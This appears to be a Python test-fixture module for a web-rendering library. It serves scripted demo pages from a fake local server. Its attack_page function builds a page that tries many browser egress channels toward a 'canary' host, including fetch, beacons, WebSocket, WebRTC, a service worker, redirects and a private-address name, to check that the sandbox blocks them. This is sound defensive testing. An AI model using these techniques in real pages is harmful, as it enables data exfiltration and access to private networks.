"""Client-rendered pages on a `FakeServer`, for the rendering tier's tests and `bench/render.py`.

    with AppServer() as apps:
        settings = Settings(fetch={"allowed_hosts": [apps.host]})
        page = await weblens.fetch(apps.url("/app/json"), settings=settings)   # renders: an empty shell

Each app's text is built by its scripts, never present in the HTML it is served as:
`/app/json` (fetched from a JSON API), `/app/delayed` (after a timer), `/app/lazy` (more on
scroll), `/app/infinite` (an infinite scroll), `/app/shadow` (inside a shadow root),
`/app/hash` (hash routing: open `/app/hash#/guide`), `/app/noscript` (a notice asking for
JavaScript over an empty root). `/static` is an ordinary article; `/busy` never yields
(`while(true){}`); `/attack` tries every way out of a page toward `canary` (see
`attack_page`). `APP_MARKERS` holds a sentence each app's rendered text contains.
"""

from __future__ import annotations

import json
from typing import Any

from weblens.testing.pages import article_html
from weblens.testing.server import FakeServer, Reply

__all__ = ["APP_MARKERS", "APP_PATHS", "AppServer", "app_paragraphs", "attack_page"]


def app_paragraphs(topic: str, count: int = 8) -> list[str]:
    return [
        f"{topic} note {i}: the tide tables for the northern harbour were copied by hand each spring, "
        f"checked against the moon's phase, and pinned beside the door of the {topic.lower()} office "
        f"where every skipper read them before the boats went out on the {i + 2}nd tide."
        for i in range(count)
    ]


APP_MARKERS = {
    "/app/json": "Ledger note 3",
    "/app/delayed": "Delayed note 3",
    "/app/lazy": "Lazy note 3",
    "/app/infinite": "Infinite note 3",
    "/app/shadow": "Shadow note 3",
    "/app/hash#/guide": "Guide note 3",
    "/app/noscript": "Noscript note 3",
}
APP_PATHS = tuple(APP_MARKERS)

_SHELL = (
    "<!DOCTYPE html><html><head><meta charset='utf-8'><title>{title}</title></head>"
    "<body><div id='root'></div>{extra}<script>{script}</script></body></html>"
)
_RENDER = (
    "function show(title, paragraphs, into) {{"
    " const root = into || document.getElementById('root');"
    " const body = paragraphs.map(p => '<p>' + p + '</p>').join('');"
    " root.insertAdjacentHTML('beforeend', '<h1>' + title + '</h1>' + body);"
    " }}"
)


def _shell(title: str, script: str, extra: str = "") -> str:
    return _SHELL.format(title=title, extra=extra, script=_RENDER.format() + script)


def _apps() -> dict[str, str]:
    data = json.dumps
    lazy = app_paragraphs("Lazy")
    infinite = app_paragraphs("Infinite", 24)
    return {
        "/app/json": _shell(
            "Ledger",
            "fetch('/app/api/article').then(r => r.json()).then(d => show(d.title, d.paragraphs));",
        ),
        "/app/delayed": _shell(
            "Delayed", f"setTimeout(() => show('Delayed', {data(app_paragraphs('Delayed'))}), 150);"
        ),
        "/app/lazy": _shell(
            "Lazy",
            f"const rest = {data(lazy[4:])};"
            f"show('Lazy', {data(lazy[:4])});"
            "addEventListener('scroll', () => { if (rest.length) show('More', rest.splice(0)); }, {passive: true});",
            extra="<div style='height:3000px'></div>",
        ),
        "/app/infinite": _shell(
            "Infinite",
            f"const items = {data(infinite)}; let next = 0;"
            "function more() { show('Batch ' + next / 6, items.slice(next, next + 6)); next += 6;"
            " document.getElementById('pad').style.height = '2000px'; }"
            "more(); addEventListener('scroll', () => { if (next < items.length) more(); }, {passive: true});",
            extra="<div id='pad'></div>",
        ),
        "/app/shadow": _shell(
            "Shadow",
            "class Widget extends HTMLElement { connectedCallback() {"
            " const root = this.attachShadow({mode: 'open'}); const div = document.createElement('div');"
            f" root.appendChild(div); show('Shadow', {data(app_paragraphs('Shadow'))}, div); }} }}"
            "customElements.define('x-widget', Widget);"
            "document.getElementById('root').appendChild(document.createElement('x-widget'));",
        ),
        "/app/hash": _shell(
            "Hash",
            f"const routes = {{'#/guide': {data(app_paragraphs('Guide'))}, '#/': ['Home page of the app.']}};"
            "function route() { document.getElementById('root').innerHTML = '';"
            " show(location.hash, routes[location.hash] || routes['#/']); }"
            "addEventListener('hashchange', route); route();",
        ),
        "/app/noscript": (
            "<!DOCTYPE html><html><head><title>Noscript</title></head><body>"
            "<noscript>You need to enable JavaScript to run this app.</noscript>"
            "<nav>" + " ".join(f"<a href='/n{i}'>Section {i} of the site</a>" for i in range(12)) + "</nav>"
            "<div id='app'></div><script>document.getElementById('app').innerHTML = "
            + data("".join(f"<p>{p}</p>" for p in app_paragraphs("Noscript")))
            + ";</script></body></html>"
        ),
    }


def attack_page(canary: str, private_name: str, own_text: str) -> str:
    """A page that shows `own_text` and tries every way out toward `canary` (host:port of a server
    that must see nothing): subresources, fetch/XHR, an iframe, a WebSocket, sendBeacon, prefetch,
    preconnect, a service worker, a redirect, EventSource, a popup, a form post, a name
    (`private_name`) that resolves to a private address, WebRTC toward a STUN server there."""
    c = f"http://{canary}"
    host, _, port = canary.rpartition(":")
    script = f"""
    fetch('{c}/fetch').catch(() => {{}});
    const x = new XMLHttpRequest(); x.open('GET', '{c}/xhr'); x.send();
    try {{ new WebSocket('ws://{canary}/ws'); }} catch (e) {{}}
    navigator.sendBeacon('{c}/beacon', 'x');
    try {{ new EventSource('{c}/events'); }} catch (e) {{}}
    fetch('/to-canary').catch(() => {{}});
    fetch('http://{private_name}:{port}/private').catch(() => {{}});
    if (navigator.serviceWorker) navigator.serviceWorker.register('/sw.js').catch(() => {{}});
    window.open('{c}/popup');
    const f = document.createElement('form'); f.method = 'POST'; f.action = '{c}/form'; f.target = 'sink';
    document.body.appendChild(f); f.submit();
    try {{
      const pc = new RTCPeerConnection({{iceServers: [{{urls: 'stun:{host}:{port}'}}]}});
      pc.createDataChannel('x'); pc.createOffer().then(o => pc.setLocalDescription(o));
    }} catch (e) {{}}
    document.getElementById('own').insertAdjacentHTML('beforeend', '<p>' + {json.dumps(own_text)} + '</p>');
    """
    return (
        "<!DOCTYPE html><html><head><meta charset='utf-8'><title>Attack</title>"
        f"<link rel='stylesheet' href='{c}/style.css'><link rel='prefetch' href='{c}/prefetch'>"
        f"<link rel='preconnect' href='{c}'><link rel='dns-prefetch' href='{c}'>"
        f"<script src='{c}/script.js'></script></head><body><div id='own'></div>"
        f"<img src='{c}/img.png'><iframe src='{c}/frame'></iframe><iframe name='sink'></iframe>"
        f"<img src='/to-canary-img'><script>{script}</script></body></html>"
    )


class AppServer(FakeServer):
    """A `FakeServer` serving the apps of the module docstring (see `url`, `host`)."""

    def __init__(self, **kwargs: Any) -> None:
        super().__init__(**kwargs)
        html = "text/html; charset=utf-8"
        for path, page in _apps().items():
            self.route("GET", path, Reply(body=page, content_type=html))
        self.route("GET", "/app/api/article", Reply(body={"title": "Ledger", "paragraphs": app_paragraphs("Ledger")}))
        self.route("GET", "/static", Reply(body=article_html(), content_type=html))
        self.route("GET", "/busy", Reply(body=_shell("Busy", "while (true) {}"), content_type=html))

    @property
    def host(self) -> str:
        return f"127.0.0.1:{self.port}"

    def add_attack(self, canary: str, private_name: str, own_text: str) -> None:
        """Serve `attack_page` at `/attack`, with the redirects and service worker it uses."""
        html = "text/html; charset=utf-8"
        self.route("GET", "/attack", Reply(body=attack_page(canary, private_name, own_text), content_type=html))
        for path in ("/to-canary", "/to-canary-img"):
            self.route("GET", path, Reply(status=302, headers={"Location": f"http://{canary}{path}"}))
        worker = f"fetch('http://{canary}/from-worker'); self.addEventListener('fetch', () => {{}});"
        self.route("GET", "/sw.js", Reply(body=worker, content_type="text/javascript"))
